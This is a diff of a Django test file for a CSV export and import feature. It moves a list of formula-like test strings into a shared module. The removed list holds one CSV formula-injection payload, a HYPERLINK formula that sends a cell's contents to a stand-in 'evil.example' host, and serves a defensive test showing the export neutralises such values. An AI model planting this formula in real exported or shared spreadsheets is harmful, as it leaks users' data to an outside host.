@@ -19,7 +19,7 @@ from recommendations.importer import IMPORTED_SUMMARY, import_recommendations
 from recommendations.models import Assessment, Recommendation
 
 from . import factories
-from .csv_files import csv_bytes, synthetic_csv
+from .csv_files import FORMULA_LIKE, csv_bytes, synthetic_csv
 
 pytestmark = pytest.mark.django_db
 
@@ -496,22 +496,6 @@ def test_export_then_import_into_an_emptied_database_gives_the_same_export(clien
     after = exported(client)
     assert after.decode("utf-8").splitlines() == before.decode("utf-8").splitlines()
     assert after == before
-
-
-# Texts that begin like a formula (the export prefixes them with a quote) and texts that
-# genuinely begin with a quote (prefixed too, so that the prefix is never ambiguous).
-FORMULA_LIKE = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
-    "+7 (7172) 72-00-00",
-    "-1 day",
-    "@SUM(A1:A9)",
-    "\tindented",
-    "\rcarriage return",
-    "\nline feed",
-    "'quoted'",
-    "''twice",
-    "'=already quoted",
-]
 
 
 def test_texts_that_begin_like_a_formula_survive_export_and_import_byte_for_byte(
